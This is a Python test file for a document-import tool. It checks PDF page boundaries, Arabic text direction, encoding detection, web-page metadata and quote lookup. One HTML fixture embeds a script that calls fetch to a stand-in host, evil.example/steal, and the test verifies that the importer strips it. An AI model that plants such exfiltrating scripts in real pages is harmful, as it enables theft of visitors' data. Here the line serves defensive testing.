"""Reading real files into a case: PDFs from two producers, web pages, text in two encodings."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from db.queries import source_detail
from db.text.spans import locate_quote
from desktop.sources import import_file

from . import pdfgen
from .conftest import ARABIC_LINES, RUSSIAN, TURKISH


def stored(case, source_id):
    with case.read() as session:
        return source_detail(session, source_id)


def page_starts(case, source_id):
    from db.models import Source

    with case.read() as session:
        return list(session.get(Source, source_id).page_starts)


def test_digest_article_date_line_becomes_publication_date(any_case, digest_article):
    outcome = import_file(any_case, digest_article)
    view, text = stored(any_case, outcome.source_id)
    assert view.published_on == dt.date(2024, 3, 7)
    assert text.startswith("Ankara and Damascus are preparing a meeting")
    assert "date 2024-03-07" not in text
    assert view.title.startswith("Ankara and Damascus are preparing")
    assert view.language == "en" and view.direction == "ltr"
    assert view.file_name == digest_article.name
    assert view.size == digest_article.stat().st_size
    # A quote as the reviewer types it: straight quotes, other line breaks, different case.
    spans = locate_quote(text, '"the sanctions imposed on the ports of the region')
    assert spans and text[spans[0].start : spans[0].end].startswith("“The sanctions")
    # The Arabic passage and the inverted attribution are kept as the digest prints them.
    assert locate_quote(text, "لا توجد خطوط حمراء")
    assert "The official quoted Kuzey TV as saying" in text


def test_same_file_twice_gives_the_existing_source(sqlite_case, digest_article):
    first = import_file(sqlite_case, digest_article)
    second = import_file(sqlite_case, digest_article)
    assert first.created and not second.created
    assert second.source_id == first.source_id
    assert second.sha256 == first.sha256


def test_pdf_pages_keep_their_boundaries(sqlite_case, tmp_path: Path):
    path = tmp_path / "three.pdf"
    path.write_bytes(
        pdfgen.latin_pdf(
            ["First page text", "Second page says no red lines", "Third page"], title="Report"
        )
    )
    outcome = import_file(sqlite_case, path)
    view, text = stored(sqlite_case, outcome.source_id)
    assert view.pages == 3 and view.title == "Report"
    spans = locate_quote(text, "no red lines", page_starts(sqlite_case, outcome.source_id))
    assert spans[0].page == 2
    assert outcome.read.details["pdf"]["producer"] == "tests/pdfgen"


def test_qt_pdf_arabic_comes_back_in_logical_order(sqlite_case, qt_pdf: Path):
    outcome = import_file(sqlite_case, qt_pdf)
    _view, text = stored(sqlite_case, outcome.source_id)
    starts = page_starts(sqlite_case, outcome.source_id)
    assert len(starts) == 3
    for line in ARABIC_LINES:
        assert line in text
    assert "\t" not in text
    spans = locate_quote(text, "لا توجد خطوط حمراء", starts)
    assert spans and spans[0].page == 1
    assert locate_quote(text, "kırmızı çizgi olmadığını", starts)[0].page == 2
    assert locate_quote(text, "Сергей Лавров заявил", starts)[0].page == 3
    assert TURKISH in text and RUSSIAN in text


def test_qt_pdf_arabic_language_and_direction(sqlite_case, qt_arabic_pdf: Path):
    outcome = import_file(sqlite_case, qt_arabic_pdf)
    view, text = stored(sqlite_case, outcome.source_id)
    assert (view.language, view.direction) == ("ar", "rtl")
    assert text.startswith(ARABIC_LINES[0])


def test_second_producer_logical_order_and_presentation_forms(sqlite_case, tmp_path: Path):
    path = tmp_path / "handwritten.pdf"
    # U+FEFB is the lam-alef ligature some producers emit: NFKC makes it lam + alef.
    path.write_bytes(pdfgen.unicode_pdf([ARABIC_LINES[0].replace("لا", "\ufefb"), RUSSIAN]))
    outcome = import_file(sqlite_case, path)
    _view, text = stored(sqlite_case, outcome.source_id)
    assert ARABIC_LINES[0] in text
    assert "\ufefb" not in text
    assert locate_quote(text, "لا توجد خطوط", page_starts(sqlite_case, outcome.source_id))


HTML = """<!doctype html><html><head><meta charset="utf-8">
<title>No red lines with Syria, official says | BBC Türkçe</title>
<link rel="canonical" href="https://www.bbc.com/turkce/articles/red-lines">
<meta name="author" content="Ayşe Yılmaz">
<meta property="og:site_name" content="BBC Türkçe">
<meta property="article:published_time" content="2023-01-18T09:00:00Z">
<script>document.title = "HIJACKED"; fetch("https://evil.example/steal");</script>
</head><body><nav><a href="/">Home</a> <a href="/news">News</a></nav>
<article><h1>No red lines with Syria, official says</h1>
<p>A Turkish security official told BBC Türkçe that there are no red lines in relations
between Turkey and Syria, and that talks between the intelligence services continue.</p>
<p>The official said the meeting of foreign ministers could take place in the coming weeks,
after the defence ministers met in Moscow at the end of December.</p>
<script>document.write("INJECTED TEXT")</script>
</article><footer>© BBC</footer></body></html>"""


def test_saved_web_page_article_and_metadata(sqlite_case, tmp_path: Path):
    path = tmp_path / "page.html"
    path.write_text(HTML, encoding="utf-8")
    outcome = import_file(sqlite_case, path)
    view, text = stored(sqlite_case, outcome.source_id)
    assert "no red lines in relations" in text
    assert "INJECTED" not in text and "fetch(" not in text and "HIJACKED" not in text
    assert view.title == "No red lines with Syria, official says"
    assert view.outlet == "BBC Türkçe"
    assert view.url == "https://www.bbc.com/turkce/articles/red-lines"
    assert view.published_on == dt.date(2023, 1, 18)
    assert outcome.read.author == "Ayşe Yılmaz"


ARABIC_TEXT = "\n".join(ARABIC_LINES * 3)


def test_windows_1256_text(sqlite_case, tmp_path: Path):
    path = tmp_path / "watan.txt"
    path.write_bytes(("date 2023-01-18 " + ARABIC_TEXT).encode("windows-1256"))
    outcome = import_file(sqlite_case, path)
    view, text = stored(sqlite_case, outcome.source_id)
    assert text.startswith(ARABIC_LINES[0])
    assert (view.language, view.direction) == ("ar", "rtl")
    assert view.published_on == dt.date(2023, 1, 18)
    assert outcome.read.details["encoding"] in {"cp1256", "windows_1256", "windows-1256"}


def test_utf8_turkish_and_russian_text(sqlite_case, tmp_path: Path):
    turkish = tmp_path / "tr.md"
    turkish.write_text(f"# Kırmızı çizgi yok\n\n{TURKISH}. {TURKISH}.\n", encoding="utf-8")
    russian = tmp_path / "ru.txt"
    russian.write_text(f"{RUSSIAN}. {RUSSIAN}.\n", encoding="utf-8")
    tr_view, tr_text = stored(sqlite_case, import_file(sqlite_case, turkish).source_id)
    ru_view, ru_text = stored(sqlite_case, import_file(sqlite_case, russian).source_id)
    assert (tr_view.language, tr_view.title) == ("tr", "Kırmızı çizgi yok")
    assert TURKISH in tr_text
    assert (ru_view.language, ru_view.direction) == ("ru", "ltr")
    assert RUSSIAN in ru_text


def test_language_given_by_the_reviewer_wins(sqlite_case, tmp_path: Path):
    path = tmp_path / "note.txt"
    path.write_text(ARABIC_TEXT, encoding="utf-8")
    outcome = import_file(sqlite_case, path, language="fa")
    view, _text = stored(sqlite_case, outcome.source_id)
    assert (view.language, view.direction) == ("fa", "rtl")


def test_extracted_text_is_cached_by_hash(tmp_path: Path, monkeypatch):
    from db.case import open_case
    from desktop.sources import reader

    path = tmp_path / "cached.pdf"
    path.write_bytes(pdfgen.latin_pdf(["Cached words on page one", "and on page two"]))
    first = open_case(tmp_path / "one.provdesk", reviewer="T", create=True)
    second = open_case(tmp_path / "two.provdesk", reviewer="T", create=True)
    try:
        import_file(first, path)

        def no_parsing(*args, **kwargs):
            raise AssertionError("the PDF was parsed again")

        monkeypatch.setattr(reader, "read_pdf", no_parsing)
        outcome = import_file(second, path)
        view, text = stored(second, outcome.source_id)
        assert text == "Cached words on page one\n\nand on page two" and view.pages == 2
    finally:
        first.close()
        second.close()


def test_text_outside_the_basic_plane_keeps_its_spans(qtbot, sqlite_case, tmp_path: Path):
    from desktop.ui.sources.source_text import SourceText

    path = tmp_path / "emoji.txt"
    path.write_text("Fans wrote 😀😀 and then: no red lines at all.", encoding="utf-8")
    _view, text = stored(sqlite_case, import_file(sqlite_case, path).source_id)
    widget = SourceText()
    qtbot.addWidget(widget)
    widget.set_source(text, (), "ltr", ())
    start = text.index("no red lines")
    widget.select_span(start, start + len("no red lines"))
    assert widget.textCursor().selectedText() == "no red lines"
    (span,) = widget.selected_spans()
    assert text[span.start : span.end] == "no red lines"


MIXED_LINES = [
    "قال لافروف في مؤتمر صحفي عام 2022 إن الإجراءات (الأحادية) غير مقبولة",
    "وقال مسؤول لـ BBC Türkçe إنه لا توجد خطوط حمراء",
    "שלום עולם, מה שלומך היום?",
]


def test_qt_pdf_mixed_direction_lines_come_back_whole(sqlite_case, qapp, tmp_path: Path):
    """Numbers, Latin names, brackets and Hebrew inside right-to-left lines: Qt splits each
    line where the direction changes, and the reader puts the pieces back in logical order."""
    from .conftest import draw_pdf

    path = draw_pdf(tmp_path / "mixed.pdf", [MIXED_LINES])
    outcome = import_file(sqlite_case, path)
    _view, text = stored(sqlite_case, outcome.source_id)
    assert text.split("\n") == MIXED_LINES
    assert outcome.read.details["reordered_pages"] == 1
